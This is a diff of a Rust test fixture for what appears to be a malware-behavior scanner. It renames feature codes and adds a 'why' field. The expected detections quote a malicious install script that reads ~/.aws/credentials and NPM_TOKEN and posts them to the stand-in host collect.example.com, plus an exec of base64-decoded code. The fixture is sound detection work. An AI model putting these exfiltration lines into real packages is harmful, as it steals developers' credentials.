@@ -98,27 +98,28 @@ fn step(entry: usize, phase: Phase, feature: Feature, detail: &str, doc: Doc, te
         call_sites: Vec::new(),
         guarded: false,
         count: 1,
+        why: cerebro::behavior::Why::default(),
     }
 }
 
 pub fn sequence() -> Sequence {
     let setup = Doc::File(5);
     let install = |feature, detail: &str, needle: &str| step(0, Phase::Install, feature, detail, setup, SETUP, needle);
-    let mut read = install(Feature::R5, "file aws credentials", "open(home + '/.aws/credentials')");
+    let mut read = install(Feature::ReadSecret, "file aws credentials", "open(home + '/.aws/credentials')");
     read.guarded = true;
     read.call_path = vec!["Install.run".to_owned()];
     let mut send = install(
-        Feature::X11,
+        Feature::SendData,
         "send file secret url other",
         "urllib.request.urlopen('https://collect.example.com/in', data=(token + data).encode())",
     );
     send.guarded = true;
-    let mut environment = install(Feature::R2, "os environ npm token", "os.environ.get('NPM_TOKEN', '')");
+    let mut environment = install(Feature::CallSystem, "os environ npm token", "os.environ.get('NPM_TOKEN', '')");
     environment.count = 2;
-    let mut run = step(0, Phase::Install, Feature::P4, "exec", Doc::Layer(0), LAYER, "print(1)");
+    let mut run = step(0, Phase::Install, Feature::EvaluateCode, "exec", Doc::Layer(0), LAYER, "print(1)");
     run.call_path = vec!["Install.run".to_owned(), "exec".to_owned()];
-    let import = step(1, Phase::Import, Feature::R1, "platform", Doc::File(3), INIT, "import platform");
-    let call = step(2, Phase::Run, Feature::R2, "platform system", Doc::File(3), INIT, "platform.system()");
+    let import = step(1, Phase::Import, Feature::ImportSystem, "platform", Doc::File(3), INIT, "import platform");
+    let call = step(2, Phase::Run, Feature::CallSystem, "platform system", Doc::File(3), INIT, "platform.system()");
     let span = Span { start: SETUP.find("base64.b64decode(").unwrap(), end: SETUP.find("='))").unwrap() + 3 };
     let recipe = vec!["base64".to_owned(), "exec".to_owned()];
     let found = Layer::found(setup, span, recipe, Arc::new(Source::new(LAYER.to_owned())));
@@ -131,16 +132,16 @@ pub fn sequence() -> Sequence {
             entry(Phase::Run, "not reached: describe"),
         ],
         steps: vec![
-            install(Feature::E1, "base64", "base64"),
-            install(Feature::R1, "os", "os"),
-            install(Feature::D1, "urllib request", "urllib.request"),
+            install(Feature::ImportEncoding, "base64", "base64"),
+            install(Feature::ImportSystem, "os", "os"),
+            install(Feature::ImportNetwork, "urllib request", "urllib.request"),
             environment,
-            install(Feature::X5, "check ci", "os.environ.get('CI')"),
+            install(Feature::CheckEnvironment, "check ci", "os.environ.get('CI')"),
             read,
-            install(Feature::D3, "url other", "'https://collect.example.com/in'"),
+            install(Feature::UseUrl, "url other", "'https://collect.example.com/in'"),
             send,
-            install(Feature::E3, "base64 string", "'cHJpbnQoMSk='"),
-            install(Feature::X1, "exec base64", "exec(base64.b64decode('cHJpbnQoMSk='))"),
+            install(Feature::UseBase64, "base64 string", "'cHJpbnQoMSk='"),
+            install(Feature::RunDecoded, "exec base64", "exec(base64.b64decode('cHJpbnQoMSk='))"),
             run,
             import,
             call,
